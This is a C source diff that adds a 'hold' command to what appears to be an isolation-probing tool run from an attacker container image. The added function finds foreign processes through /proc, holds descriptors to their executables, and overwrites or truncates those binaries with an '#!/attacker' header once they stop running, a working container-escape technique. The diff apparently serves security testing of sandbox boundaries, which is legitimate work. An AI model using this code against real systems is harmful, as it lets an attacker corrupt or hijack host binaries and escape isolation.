@@ -172,6 +172,55 @@ static int catch(int seconds, const char *secret) {
     return 0;
 }
 
+// hold FILE: keeps a descriptor of every foreign program it sees run, and writes to it as soon as nobody runs it any more, until FILE
+// exists. Prints "held PROGRAM" and "written PROGRAM".
+static int hold(const char *end) {
+    struct { int file; dev_t device; ino_t number; char name[128]; } held[256];
+    int count = 0;
+    while (access(end, F_OK)) {
+        DIR *processes = opendir("/proc");
+        for (struct dirent *entry; processes && (entry = readdir(processes));) {
+            char path[64], target[128];
+            int pid = atoi(entry->d_name), known = 0;
+            if (pid < 1 || pid == getpid() || count == sizeof held / sizeof *held)
+                continue;
+            snprintf(path, sizeof path, "/proc/%d/exe", pid);
+            long length = readlink(path, target, sizeof target - 1);
+            target[length < 0 ? 0 : length] = 0;
+            // Programs of the image are no prey.
+            if (!strncmp(target, "/bin/", 5) || !strncmp(target, "/attacker", 9))
+                continue;
+            struct stat status;
+            int file = open(path, O_RDONLY | O_CLOEXEC);
+            if (file < 0)
+                file = open(path, O_PATH | O_CLOEXEC);
+            if (file < 0 || fstat(file, &status) < 0)
+                continue;
+            for (int i = 0; i < count; i++)
+                known |= held[i].device == status.st_dev && held[i].number == status.st_ino;
+            if (known) {
+                close(file);
+                continue;
+            }
+            held[count].file = file, held[count].device = status.st_dev, held[count].number = status.st_ino;
+            strcpy(held[count++].name, target);
+            printf("held %s\n", target);
+        }
+        if (processes)
+            closedir(processes);
+        for (int i = 0; i < count; i++) {
+            char path[64];
+            snprintf(path, sizeof path, "/proc/self/fd/%d", held[i].file);
+            int file = open(path, O_WRONLY | O_CLOEXEC);
+            if (file >= 0 && (write(file, "#!/attacker\n", 12) > 0 || !ftruncate(file, 0)))
+                printf("written %s\n", held[i].name);
+            close(file);
+        }
+        fflush(stdout);
+    }
+    return 0;
+}
+
 // abstract: connects to every abstract socket of the network namespace; prints the names of those that answer.
 static int abstract(void) {
     FILE *list = fopen("/proc/net/unix", "r");
@@ -328,6 +377,7 @@ int main(int count, char **arguments) {
     if (!strcmp(verb, "writable")) return writable(arguments + 2);
     if (!strcmp(verb, "opened") && count == 3) return opened(arguments[2]);
     if (!strcmp(verb, "catch") && count == 4) return catch(atoi(arguments[2]), arguments[3]);
+    if (!strcmp(verb, "hold") && count == 3) return hold(arguments[2]);
     if (!strcmp(verb, "abstract")) return abstract();
     if (!strcmp(verb, "advertise") && count == 3) return advertise(arguments[2]);
     if (!strcmp(verb, "calls")) return calls();
